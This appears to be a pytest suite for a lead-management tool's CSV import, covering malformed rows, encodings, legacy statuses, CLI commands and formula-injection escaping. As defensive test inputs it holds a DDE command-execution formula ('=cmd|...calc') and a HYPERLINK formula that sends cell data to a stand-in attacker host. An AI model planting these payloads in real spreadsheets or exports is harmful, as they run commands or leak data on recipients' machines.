"""CSV list import (I3) on both stores: clean lists, re-imports, malformed files, formula injection.

Every list goes through `import_leads(store, pb, path, channel=..., actor=..., now=...)`, the same
intake as every other channel; refused rows land in `FILE.rejected.csv` with their reasons and
with every cell escaped so a spreadsheet never evaluates it.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from leadflow.cli import app
from leadflow.domain.records import Actor
from leadflow.errors import InvalidInput
from leadflow.playbook.schema import Playbook
from leadflow.services import imports
from leadflow.services.csvsafe import SafeWriter, safe_cell
from leadflow.services.imports import ImportReport, import_leads
from leadflow.store.db import Store
from leadflow.store.models import Campaign, CampaignMember, Contact, FieldHistory, Intake, Lead

OPS = Actor.user("ops")
FORMULA = "=cmd|' /C calc'!A0"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")

runner = CliRunner()


# --------------------------------------------------------------------------- helpers


def write_csv(path: Path, header: list[str], *rows: list[Any], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def run(store: Store, pb: Playbook, path: Path, now: dt.datetime, **options: Any) -> ImportReport:
    options.setdefault("channel", "event_scan")
    return import_leads(store, pb, path, actor=OPS, now=now, **options)


def leads(store: Store) -> list[Lead]:
    with store.uow() as uow:
        return list(uow.session.scalars(select(Lead).order_by(Lead.email)))


def count(store: Store, model: Any) -> int:
    with store.uow() as uow:
        return int(uow.session.scalar(select(func.count()).select_from(model)) or 0)


def rejected_rows(report: ImportReport) -> list[dict[str, str]]:
    assert report.rejected_path is not None and report.rejected_path.exists()
    with report.rejected_path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def every_cell(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


HEADER = ["Email", "First Name", "Last Name", "Company", "Country"]
CLEAN = [
    ["ada@initech.io", "Ada", "Lovelace", "Initech", "UK"],
    ["grace@globex.example", "Grace", "Hopper", "Globex", "USA"],
    ["alan@hooli.example", "Alan", "Turing", "Hooli", "Deutschland"],
]


# --------------------------------------------------------------------------- clean lists, re-import, campaign


def test_I3_clean_csv_imports_every_row_with_a_report(store: Store, playbook: Playbook, now: dt.datetime,
                                                      tmp_path: Path) -> None:
    path = write_csv(tmp_path / "kubecon.csv", HEADER, *CLEAN)
    seen: list[int] = []
    report = run(store, playbook, path, now, on_row=seen.append)
    assert (report.rows, report.created, report.updated, report.replayed, report.rejected) == (3, 3, 0, 0, 0)
    assert report.rejected_path is None and not (tmp_path / "kubecon.rejected.csv").exists()
    assert sum(seen) == 3
    assert report.header_fields == {"Email": "email", "First Name": "first_name", "Last Name": "last_name",
                                    "Company": "company", "Country": "country"}
    assert "3 rows, 3 created" in report.summary()
    stored = leads(store)
    assert [(lead.email, lead.country) for lead in stored] == [
        ("ada@initech.io", "United Kingdom"), ("alan@hooli.example", "Germany"),
        ("grace@globex.example", "United States")]
    assert {(lead.initial_source, lead.initial_source_at, lead.status, lead.channel) for lead in stored} == {
        ("Conference", now, "Inquiry", "event_scan")}
    with store.uow() as uow:
        actors = set(uow.session.scalars(select(FieldHistory.actor_id).where(FieldHistory.entity_type == "lead")))
        rules = set(uow.session.scalars(select(FieldHistory.rule).where(FieldHistory.field == "(created)")))
    assert actors == {"ops"} and rules == {"intake:event_scan"}


def test_I3_reimporting_the_same_file_creates_nothing_new(store: Store, playbook: Playbook, now: dt.datetime,
                                                          tmp_path: Path) -> None:
    path = write_csv(tmp_path / "list.csv", HEADER, *CLEAN)
    run(store, playbook, path, now)
    history = count(store, FieldHistory)
    again = run(store, playbook, path, now + dt.timedelta(days=1))
    assert (again.rows, again.created, again.updated, again.replayed, again.rejected) == (3, 0, 0, 3, 0)
    assert count(store, Lead) == 3 and count(store, Intake) == 3
    assert count(store, FieldHistory) == history


def test_I3_same_person_in_another_list_is_updated_not_created(store: Store, playbook: Playbook,
                                                               now: dt.datetime, tmp_path: Path) -> None:
    run(store, playbook, write_csv(tmp_path / "a.csv", HEADER, *CLEAN), now)
    other = write_csv(tmp_path / "b.csv", ["Email", "Title"], ["ADA@Initech.io", "CTO"], ["new@initech.io", ""])
    report = run(store, playbook, other, now, channel="webcast_registration")
    assert (report.created, report.updated, report.rejected) == (1, 1, 0)
    ada = next(lead for lead in leads(store) if lead.email == "ada@initech.io")
    assert (ada.title, ada.initial_source) == ("CTO", "Conference")
    assert count(store, Lead) == 4


def test_I3_same_email_twice_in_one_file_is_one_lead(store: Store, playbook: Playbook, now: dt.datetime,
                                                     tmp_path: Path) -> None:
    path = write_csv(tmp_path / "dupes.csv", HEADER, CLEAN[0], ["Ada@Initech.IO", "", "", "", ""])
    report = run(store, playbook, path, now)
    assert (report.created, report.updated) == (1, 1)
    assert count(store, Lead) == 1


def test_I3_campaign_option_adds_every_person_once(store: Store, playbook: Playbook, now: dt.datetime,
                                                   tmp_path: Path) -> None:
    with store.uow() as uow:
        with uow.changing(actor=OPS, now=now):
            uow.add(Contact(id="c1", last_name="Hopper", email="grace@globex.example", status="Accepted",
                            initial_source="Web"))
        uow.commit()
    path = write_csv(tmp_path / "list.csv", HEADER, *CLEAN)
    report = run(store, playbook, path, now, campaign="KubeCon EU 2026")
    assert (report.created, report.updated) == (2, 1)
    run(store, playbook, path, now, campaign="KubeCon EU 2026")  # re-import: no second membership
    with store.uow() as uow:
        campaign = uow.session.scalars(select(Campaign).where(Campaign.name == "KubeCon EU 2026")).one()
        members = list(uow.session.scalars(select(CampaignMember).where(CampaignMember.campaign_id == campaign.id)))
        lead_ids = set(uow.session.scalars(select(Lead.id)))
    assert (campaign.type, campaign.created_at) == ("List Import", now)
    assert sorted((m.subject_type, m.subject_id) for m in members) == sorted(
        [("contact", "c1")] + [("lead", i) for i in lead_ids])
    assert {m.added_at for m in members} == {now}


# --------------------------------------------------------------------------- header


def test_I3_header_aliases_are_understood(store: Store, playbook: Playbook, now: dt.datetime,
                                          tmp_path: Path) -> None:
    header = ["E-mail Address", "Given Name", "Surname", "Company Name", "Job Title", "Phone Number",
              "Country", "Number of Employees", "Notes"]
    path = write_csv(tmp_path / "purchased.csv", header,
                     ["ada@initech.io", "Ada", "Lovelace", "Initech", "CTO", "020 7946 0958", "UK", "1,200", "x"])
    report = run(store, playbook, path, now)
    assert report.header_fields == {"Given Name": "first_name", "Surname": "last_name", "Company Name": "company",
                                    "Job Title": "title", "Phone Number": "phone", "Country": "country",
                                    "Number of Employees": "employees", "E-mail Address": "email"}
    (lead,) = leads(store)
    assert (lead.email, lead.first_name, lead.last_name, lead.company, lead.title, lead.phone, lead.employees) == (
        "ada@initech.io", "Ada", "Lovelace", "Initech", "CTO", "+442079460958", 1200)


@pytest.mark.parametrize("header", [["First Name", "Phone"], ["Last Name", "Title"], ["Company", "Country"], []])
def test_I3_missing_required_columns_are_refused_naming_them(store: Store, playbook: Playbook, now: dt.datetime,
                                                             tmp_path: Path, header: list[str]) -> None:
    path = tmp_path / "bad.csv"
    if header:
        write_csv(path, header, ["Ada", "+442079460958"], ["Grace", "x"])
    else:
        path.write_text("")
    with pytest.raises(InvalidInput) as refused:
        run(store, playbook, path, now)
    assert refused.value.field == "columns"
    if header:
        assert "email or last_name+company" in refused.value.message
        assert all(h in refused.value.message for h in header)
    assert count(store, Lead) == 0 and count(store, Intake) == 0
    assert not (tmp_path / "bad.rejected.csv").exists()


def test_I3_header_only_file_is_still_checked(store: Store, playbook: Playbook, now: dt.datetime,
                                              tmp_path: Path) -> None:
    with pytest.raises(InvalidInput):
        run(store, playbook, write_csv(tmp_path / "h.csv", ["Phone"]), now)
    report = run(store, playbook, write_csv(tmp_path / "ok.csv", ["Email"]), now)
    assert report.rows == 0


def test_I3_unknown_channel_or_encoding_is_refused(store: Store, playbook: Playbook, now: dt.datetime,
                                                   tmp_path: Path) -> None:
    path = write_csv(tmp_path / "list.csv", HEADER, *CLEAN)
    with pytest.raises(InvalidInput) as channel:
        run(store, playbook, path, now, channel="fax")
    with pytest.raises(InvalidInput) as encoding:
        run(store, playbook, path, now, encoding="klingon-8")
    assert (channel.value.field, encoding.value.field) == ("channel", "encoding")
    assert count(store, Lead) == 0


# --------------------------------------------------------------------------- malformed rows


def test_I3_quoted_fields_with_commas_quotes_and_newlines_survive(store: Store, playbook: Playbook,
                                                                  now: dt.datetime, tmp_path: Path) -> None:
    path = tmp_path / "quoted.csv"
    path.write_text(
        'Email,Last Name,Company,Title\r\n'
        'ada@initech.io,"Lovelace, Countess","Initech, Inc.","Head of\nPlatform"\r\n'
        'grace@globex.example,"O\'Hopper","The ""Globex"" Corp",CTO\r\n',
        encoding="utf-8",
    )
    report = run(store, playbook, path, now)
    assert (report.rows, report.created, report.rejected) == (2, 2, 0)
    ada, grace = leads(store)
    assert (ada.last_name, ada.company, ada.title) == ("Lovelace, Countess", "Initech, Inc.", "Head of\nPlatform")
    assert (grace.last_name, grace.company) == ("O'Hopper", 'The "Globex" Corp')


def test_I3_unbalanced_quote_rejects_its_row_and_never_swallows_the_rows_after_it(
        store: Store, playbook: Playbook, now: dt.datetime, tmp_path: Path) -> None:
    path = tmp_path / "quotes.csv"
    path.write_text('Email,Last Name,Company\n'
                    'ada@initech.io,Lovelace,"Initech\n'       # opens a quote it never closes ...
                    'grace@globex.example,Hopper,Globex\n'
                    'alan@hooli.example,"Turing" Jr,Hooli\n'   # ... until here, with text after it
                    'bob@initech.io,Bob,Initech\n'
                    'eve@initech.io,Eve,"Initech\n'            # and one left open at the end of the file
                    'mallory@initech.io,Mallory,Initech\n', encoding="utf-8")
    report = run(store, playbook, path, now)
    assert (report.created, report.rejected) == (1, 2)
    assert [(lead.email, lead.company) for lead in leads(store)] == [("bob@initech.io", "Initech")]
    first, last = rejected_rows(report)
    assert first["reasons"].startswith("not valid CSV (line 4)")
    assert "unexpected end of data" in last["reasons"]


def test_I3_field_beyond_the_csv_size_limit_rejects_its_row(store: Store, playbook: Playbook, now: dt.datetime,
                                                           tmp_path: Path) -> None:
    path = tmp_path / "giant.csv"
    path.write_bytes(b"Email,Last Name,Company\nbig@initech.io,Big," + b"A" * 1_100_000 + b"\nok@initech.io,Ok,X\n")
    report = run(store, playbook, path, now)
    assert (report.rows, report.created, report.rejected) == (2, 1, 1)
    assert "field larger than field limit" in rejected_rows(report)[0]["reasons"]


def test_I3_nul_character_rejects_its_row_on_every_database(store: Store, playbook: Playbook, now: dt.datetime,
                                                           tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"Email,Last Name,Company\nnul@initech.io,N\x00ul,Initech\nok@initech.io,Ok,Initech\n")
    report = run(store, playbook, path, now)
    assert (report.created, report.rejected) == (1, 1)
    assert rejected_rows(report)[0]["reasons"] == "last_name: Value error, may not contain a NUL (0x00) character"
    assert [lead.email for lead in leads(store)] == ["ok@initech.io"]


def test_I3_ten_thousand_character_field_rejects_only_that_row(store: Store, playbook: Playbook, now: dt.datetime,
                                                               tmp_path: Path) -> None:
    huge = "A" * 10_000
    path = write_csv(tmp_path / "huge.csv", HEADER, CLEAN[0], ["big@initech.io", "Big", "Field", huge, "UK"],
                     CLEAN[1], ["bigger@initech.io", "Big", huge, "Initech", "UK"])
    report = run(store, playbook, path, now)
    assert (report.rows, report.created, report.rejected) == (4, 2, 2)
    assert [lead.email for lead in leads(store)] == ["ada@initech.io", "grace@globex.example"]
    rejected = rejected_rows(report)
    assert [r["row"] for r in rejected] == ["3", "5"]
    assert "company" in rejected[0]["reasons"] and "at most 300 characters" in rejected[0]["reasons"]
    assert "last_name" in rejected[1]["reasons"] and "at most 120 characters" in rejected[1]["reasons"]
    assert rejected[0]["Company"] == huge  # the refused row is kept whole, to be fixed and re-imported


def test_I3_huge_field_in_an_ignored_column_does_not_matter(store: Store, playbook: Playbook, now: dt.datetime,
                                                            tmp_path: Path) -> None:
    path = write_csv(tmp_path / "notes.csv", [*HEADER, "Notes"], [*CLEAN[0], "n" * 10_000])
    assert run(store, playbook, path, now).created == 1


def test_I3_row_with_the_wrong_number_of_cells_is_rejected(store: Store, playbook: Playbook, now: dt.datetime,
                                                           tmp_path: Path) -> None:
    path = tmp_path / "ragged.csv"
    path.write_text("Email,Last Name,Company\nada@initech.io,Lovelace\n\ngrace@globex.example,Hopper,Globex\n"
                    "alan@hooli.example,Turing,Hooli,extra\n", encoding="utf-8")
    report = run(store, playbook, path, now)
    assert (report.rows, report.created, report.rejected) == (3, 1, 2)
    rejected = rejected_rows(report)
    assert [r["row"] for r in rejected] == ["2", "5"]
    assert "has 2 cells but the header has 3 columns" in rejected[0]["reasons"]
    assert "has 4 cells" in rejected[1]["reasons"]


def test_I3_wrong_encoding_rejects_the_row_naming_the_encoding_and_imports_with_it(
        store: Store, playbook: Playbook, now: dt.datetime, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(b"Email,Last Name,Company\r\n"
                     b"mueller@initech.io,M\xfcller,Initech\r\n"
                     b"ok@initech.io,Ok,Initech\r\n")
    report = run(store, playbook, path, now)
    assert (report.rows, report.created, report.rejected) == (2, 1, 1)
    (rejected,) = rejected_rows(report)
    assert rejected["row"] == "2"
    assert "utf-8" in rejected["reasons"] and "--encoding" in rejected["reasons"]
    assert (rejected["Email"], rejected["Last Name"]) == ("mueller@initech.io", "M\ufffdller")
    again = run(store, playbook, path, now, encoding="cp1252")
    assert (again.created, again.replayed, again.rejected) == (1, 1, 0)
    assert not path.with_name("excel.rejected.csv").exists()
    assert [(lead.email, lead.last_name) for lead in leads(store)] == [
        ("mueller@initech.io", "Müller"), ("ok@initech.io", "Ok")]


def test_I3_utf8_byte_order_mark_from_excel_is_not_part_of_the_header(store: Store, playbook: Playbook,
                                                                       now: dt.datetime, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "bom.csv", HEADER, *CLEAN, encoding="utf-8-sig")
    report = run(store, playbook, path, now)
    assert report.created == 3 and "Email" in report.header_fields


def test_I3_invalid_values_are_rejected_with_every_reason(store: Store, playbook: Playbook, now: dt.datetime,
                                                          tmp_path: Path) -> None:
    path = write_csv(tmp_path / "bad.csv", ["Email", "First Name", "Last Name", "Company", "Employees"],
                     ["not-an-email", "Ada", "Lovelace", "Initech", ""],
                     ["", "Grace", "", "", ""],
                     ["ok@initech.io", "Ok", "Ok", "Initech", "lots"])
    report = run(store, playbook, path, now)
    assert (report.created, report.rejected) == (0, 3)
    reasons = {r["row"]: r["reasons"] for r in rejected_rows(report)}
    assert "not a valid email address" in reasons["2"]
    assert "email" in reasons["3"] and "last_name+company" in reasons["3"]
    assert reasons["4"].startswith("employees:")
    assert count(store, Lead) == 0 and count(store, Intake) == 0


def test_I3_rows_are_committed_in_chunks_and_a_refusal_rolls_back_only_its_row(
        store: Store, playbook: Playbook, now: dt.datetime, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(imports, "CHUNK", 2)
    rows = [[f"p{i}@initech.io", f"P{i}", f"Person{i}", "Initech", "UK"] for i in range(7)]
    rows[3][0] = "broken@"
    path = write_csv(tmp_path / "chunks.csv", HEADER, *rows, ["p9@initech.io", "P", "Nine", "Initech", "UK"])
    # an unknown legacy status fails inside the intake, after the lead was added: only its savepoint goes
    path_status = write_csv(tmp_path / "status.csv", ["Email", "Status"], ["s1@initech.io", "Banana"],
                            ["s2@initech.io", "Open"])
    report = run(store, playbook, path, now)
    assert (report.rows, report.created, report.rejected) == (8, 7, 1)
    status = run(store, playbook, path_status, now)
    assert (status.created, status.rejected) == (1, 1)
    assert "Banana" in rejected_rows(status)[0]["reasons"]
    assert sorted(lead.email for lead in leads(store) if lead.email.startswith("s")) == ["s2@initech.io"]
    assert count(store, Lead) == 8 and count(store, Intake) == 8


# --------------------------------------------------------------------------- L8 legacy statuses


def test_L8_import_maps_legacy_statuses_onto_the_nine(store: Store, playbook: Playbook, now: dt.datetime,
                                                      tmp_path: Path) -> None:
    path = write_csv(tmp_path / "legacy.csv", ["Email", "Lead Status"],
                     ["a2@initech.io", "Attempt 2"], ["nu@initech.io", "Nurture"], ["op@initech.io", "open"],
                     ["bd@initech.io", "Bad Data"], ["mq@initech.io", "MQL"])
    report = run(store, playbook, path, now, channel="other_form")
    assert (report.created, report.rejected) == (5, 0)
    got = {lead.email.split("@")[0]: (lead.status, lead.status_reason, lead.owner_id) for lead in leads(store)}
    assert got == {
        "a2": ("Accepted", None, None),
        "nu": ("Recycle", "No response", "Recycle Queue"),
        "op": ("Inquiry", None, "Inquiry Queue"),
        "bd": ("Disqualified", "Bad Data", "Disqualified Queue"),
        "mq": ("MQL", None, None),
    }
    with store.uow() as uow:
        rules = set(uow.session.scalars(select(FieldHistory.rule).where(FieldHistory.field == "status")))
    assert rules == {"intake:other_form"}


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize(
    ("value", "shown"),
    [(FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"), ("Initech", "Initech"),
     ("a=b", "a=b"), ("", ""), (None, ""), (42, "42"), ("'quoted", "'quoted")],
)
def test_I3_safe_cell_escapes_formulas(value: Any, shown: str) -> None:
    assert safe_cell(value) == shown


def test_I3_safe_writer_never_writes_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        SafeWriter(fh).writerow([FORMULA, "+1", "-1", "@x", "ok", None])
    assert every_cell(path) == ["'" + FORMULA, "'+1", "'-1", "'@x", "ok", ""]


def test_I3_rejected_file_never_re_exports_a_formula_unescaped(store: Store, playbook: Playbook, now: dt.datetime,
                                                               tmp_path: Path) -> None:
    path = write_csv(tmp_path / "evil.csv", ["Email", "First Name", "Last Name", "Company", "Title"],
                     ["not-an-email", "+1+1", "@SUM(A1)", FORMULA, "-2+3"],
                     [FORMULA, "Ada", "Lovelace", "Initech", ""],
                     ["ok@initech.io", "Ok", "Ok", "Initech", ""])
    report = run(store, playbook, path, now)
    assert (report.created, report.rejected) == (1, 2)
    assert report.rejected_path == tmp_path / "evil.rejected.csv"
    cells = every_cell(report.rejected_path)
    assert not [c for c in cells if c.startswith(DANGEROUS_START)]
    first, second = rejected_rows(report)
    assert (first["Company"], first["First Name"], first["Last Name"], first["Title"]) == (
        "'" + FORMULA, "'+1+1", "'@SUM(A1)", "'-2+3")
    assert second["Email"] == "'" + FORMULA
    assert not second["reasons"].startswith(DANGEROUS_START)


def test_I3_accepted_formula_looking_value_is_stored_as_plain_text(store: Store, playbook: Playbook,
                                                                   now: dt.datetime, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = write_csv(tmp_path / "evil.csv", ["Email", "Last Name", "Company", "Title"],
                     ["ada@initech.io", "Lovelace", evil, FORMULA], ["grace@globex.example", "@Hopper", "Globex", ""])
    report = run(store, playbook, path, now)
    assert (report.created, report.rejected) == (2, 0)
    ada, grace = leads(store)
    assert (ada.company, ada.title, grace.last_name) == (evil, FORMULA, "@Hopper")


# --------------------------------------------------------------------------- CLI (A4)


@pytest.fixture
def cli_env(store: Store, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.setenv("LEADFLOW_DATABASE_URL", store.url)
    monkeypatch.delenv("LEADFLOW_PLAYBOOK", raising=False)
    return store


def test_I3_cli_import_reports_on_stdout_and_shows_progress_on_stderr(cli_env: Store, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "list.csv", HEADER, *CLEAN, ["bad", "", "", "", ""])
    result = runner.invoke(app, ["import", "leads", str(path), "--channel", "event_scan", "--campaign", "Booth",
                                 "--as", "ops", "--now", "2026-03-02T15:00:00Z"])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == f"4 rows, 3 created, 0 updated, 0 already imported, 1 rejected (see " \
                                    f"{tmp_path / 'list.rejected.csv'})"
    assert "importing" in result.stderr and "4/4" in result.stderr
    with cli_env.uow() as uow:
        assert uow.session.scalar(select(func.count()).select_from(CampaignMember)) == 3
        created = set(uow.session.scalars(select(Lead.created_at)))
    assert created == {dt.datetime(2026, 3, 2, 15, 0, tzinfo=dt.UTC)}


def test_I3_cli_import_refuses_a_file_without_required_columns(cli_env: Store, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "list.csv", ["Phone"], ["+442079460958"])
    result = runner.invoke(app, ["import", "leads", str(path), "--channel", "event_scan"])
    assert result.exit_code == 2
    assert "columns" in result.stderr and "email" in result.stderr


def test_I1_cli_intake_reads_json_from_stdin(cli_env: Store) -> None:
    payload = {"email": "Jane@Initech.io", "last_name": "Doe", "company": "Initech", "channel": "ignored"}
    result = runner.invoke(app, ["intake", "--channel", "contact_us", "--now", "2026-03-02T15:00:00Z"],
                           input=json.dumps(payload))
    assert result.exit_code == 0, result.output
    shown = json.loads(result.stdout)
    assert (shown["outcome"], shown["replayed"], shown["subject"]["type"]) == ("created", False, "lead")
    with cli_env.uow() as uow:
        lead = uow.get(Lead, shown["subject"]["id"])
        assert (lead.email, lead.channel, lead.initial_source) == ("jane@initech.io", "contact_us", "Contact Us")
    refused = runner.invoke(app, ["intake", "--channel", "contact_us"], input=json.dumps({"email": "nope"}))
    assert refused.exit_code == 2 and "email" in refused.stderr
    broken = runner.invoke(app, ["intake", "--channel", "contact_us"], input="{not json")
    assert broken.exit_code == 2 and "not JSON" in broken.stderr


def test_I6_cli_blocks_a_domain_and_runs_the_spam_deletion_job_once_per_period(cli_env: Store) -> None:
    blocked = runner.invoke(app, ["domain", "block", "https://www.Spam-Co.com/", "--reason", "bots",
                                  "--now", "2026-03-02T15:00:00Z"])
    assert blocked.exit_code == 0, blocked.output
    assert blocked.stdout.strip() == "blocked spam-co.com"
    refused = runner.invoke(app, ["intake", "--channel", "contact_us"],
                            input=json.dumps({"email": "x@eu.spam-co.com", "last_name": "X"}))
    assert refused.exit_code == 2 and "spam-co.com" in refused.stderr
    spam = runner.invoke(app, ["intake", "--channel", "contact_us", "--now", "2026-03-02T15:00:00Z"],
                         input=json.dumps({"email": "x@mailinator.com", "last_name": "X", "company": "X"}))
    assert spam.exit_code == 0 and json.loads(spam.stdout)["spam"] is True
    first = runner.invoke(app, ["jobs", "run", "spam-deletion", "--now", "2026-03-02T16:00:00Z"])
    assert first.exit_code == 0, first.output
    assert "period 2026-03-02" in first.stdout and "'deleted_leads': 1" in first.stdout
    again = runner.invoke(app, ["jobs", "run", "spam-deletion", "--now", "2026-03-02T17:00:00Z"])
    assert again.exit_code == 0 and "already ran" in again.stdout
    unknown = runner.invoke(app, ["jobs", "run", "nope"])
    assert unknown.exit_code == 2 and "spam-deletion" in unknown.stderr
    with cli_env.uow() as uow:
        assert uow.session.scalar(select(func.count()).select_from(Lead)) == 0
